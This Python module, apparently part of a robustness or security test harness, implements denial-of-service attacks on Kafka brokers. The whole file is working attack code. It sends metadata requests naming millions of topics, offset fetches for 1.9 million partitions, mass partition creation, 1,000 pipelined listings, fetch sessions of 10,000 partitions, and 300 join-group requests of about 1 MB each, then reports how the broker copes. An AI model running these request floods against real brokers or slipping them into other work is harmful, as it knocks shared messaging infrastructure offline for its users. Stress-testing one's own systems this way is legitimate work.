"""Requests that cost the broker far more than their bytes: names in thousands, partitions in
millions, metadata of members, sessions that stay.
"""

from __future__ import annotations

import struct
import time
from collections.abc import Callable

from attack.target import Target, settle
from dragoman.protocols.kafka import codec
from dragoman.protocols.kafka import messages as m

_PATIENCE_S = 60.0
_TOPIC = "bystander"


class Client:
    """Sends frames as they are, and waits for as many replies."""

    def __init__(self, target: Target, node: int = 1) -> None:
        self._socket = target.connect("kafka", node)
        self._socket.settimeout(_PATIENCE_S)

    def __enter__(self) -> Client:
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.close()

    def ask(self, request: m.Message, version: int) -> bytes | None:
        """The reply without its size; None when the connection closed instead."""
        self.send(request, version)
        return self.reply()

    def send(self, request: m.Message, version: int, times: int = 1) -> None:
        frame = codec.join(codec.encode_request(request, version, 1, "attack"))
        self._socket.sendall(frame * times)

    def reply(self) -> bytes | None:
        try:
            head = self._exactly(4)
            return self._exactly(struct.unpack(">i", head)[0])
        except (OSError, EOFError):
            return None

    def _exactly(self, size: int) -> bytes:
        data = bytearray()
        while len(data) < size:
            piece = self._socket.recv(min(size - len(data), 1 << 20))
            if not piece:
                raise EOFError
            data += piece
        return bytes(data)


def _timed(target: Target, request: m.Message, version: int) -> str:
    with Client(target) as client:
        began = time.monotonic()
        answer = client.ask(request, version)
        took = time.monotonic() - began
    said = "closed" if answer is None else f"{len(answer):,} bytes back"
    settle(2.0)
    return f"{said} after {took:.1f} s"


def repeated_names(count: int) -> Callable[[Target], str]:
    request = m.MetadataRequest(topics=[m.MetadataRequestTopic(name=_TOPIC)] * count)
    return lambda target: _timed(target, request, 5)


def distinct_names(count: int) -> Callable[[Target], str]:
    names = [m.MetadataRequestTopic(name=f"n{at}") for at in range(count)]
    request = m.MetadataRequest(topics=names, allow_auto_topic_creation=False)
    return lambda target: _timed(target, request, 5)


def fetched_offsets(count: int) -> Callable[[Target], str]:
    topic = m.OffsetFetchRequestTopic(name=_TOPIC, partition_indexes=[0] * count)

    def strike(target: Target) -> str:
        request = m.OffsetFetchRequest(group_id=_group_of_first_node(target), topics=[topic])
        return _timed(target, request, 5)

    return strike


def _group_of_first_node(target: Target) -> str:
    """A group that node 1 coordinates; the topic of the offsets may have to be made first."""
    with Client(target) as client:
        for at in range(1000):
            answer = client.ask(m.FindCoordinatorRequest(key=f"g{at}"), 0)
            # Correlation id, error and node.
            if answer is not None and answer[4:10] == struct.pack(">hi", 0, 1):
                return f"g{at}"
            settle(0.01)
    raise RuntimeError("node 1 coordinates no group")


def created_partitions(target: Target) -> str:
    topics = [
        m.CreateTopicsRequestTopic(name=f"t{at:02}", num_partitions=10_000, replication_factor=1)
        for at in range(60)
    ]
    return _timed(target, m.CreateTopicsRequest(topics=topics, timeout_ms=30_000), 5)


def pipelined_listings(target: Target) -> str:
    """Thousands of small requests in one piece, each for everything there is."""
    topics = [
        m.CreateTopicsRequestTopic(name=f"p{at}", num_partitions=10, replication_factor=1)
        for at in range(300)
    ]
    with Client(target) as client:
        client.ask(m.CreateTopicsRequest(topics=topics, timeout_ms=30_000), 5)
        settle(2.0)
        client.send(m.MetadataRequest(topics=None), 5, times=1000)
        answered = 0
        while answered < 1000 and client.reply() is not None:
            answered += 1
    return f"{answered} of 1000 answered"


def fetch_sessions(target: Target) -> str:
    topic = m.CreateTopicsRequestTopic(name="wide", num_partitions=10_000, replication_factor=1)
    parts = [
        m.FetchRequestPartition(partition=at, partition_max_bytes=1000) for at in range(10_000)
    ]
    request = m.FetchRequest(
        max_wait_ms=0,
        max_bytes=1 << 20,
        session_epoch=0,
        topics=[m.FetchRequestTopic(topic="wide", partitions=parts)],
    )
    with Client(target) as client:
        client.ask(m.CreateTopicsRequest(topics=[topic], timeout_ms=30_000), 5)
        settle(3.0)
        opened = 0
        for _ in range(60):
            answer = client.ask(request, 12)
            # Throttle, error and session id follow the header.
            opened += answer is not None and answer[11:15] != bytes(4)
    return f"{opened} of 60 sessions"


def group_metadata(target: Target) -> str:
    refused = 0
    clients = []
    for at in range(300):
        client = Client(target)
        clients.append(client)
        protocol = m.JoinGroupRequestProtocol(name="range", metadata=bytes((1 << 20) - 100))
        join = m.JoinGroupRequest(
            group_id=f"g{at}",
            session_timeout_ms=300_000,
            rebalance_timeout_ms=300_000,
            protocol_type="consumer",
            protocols=[protocol],
        )
        answer = client.ask(m.FindCoordinatorRequest(key=f"g{at}"), 0)
        client.send(join, 3)
    for client in clients:
        answer = client.reply()
        # Correlation id and throttle time come first.
        refused += answer is None or answer[8:10] != bytes(2)
        client.__exit__()
    return f"{refused} of 300 refused"


ATTACKS = (
    ("requests: 150,000 repeated names", repeated_names(150_000)),
    ("requests: 1,900,000 repeated names", repeated_names(1_900_000)),
    ("requests: 49,000 names", distinct_names(49_000)),
    ("requests: offsets of 1,900,000 partitions", fetched_offsets(1_900_000)),
    ("requests: 1,000 listings in one piece", pipelined_listings),
    ("requests: 600,000 partitions", created_partitions),
    ("requests: 60 sessions of 10,000 partitions", fetch_sessions),
    ("requests: 300 groups of 1 MB", group_metadata, (), (1,)),
)
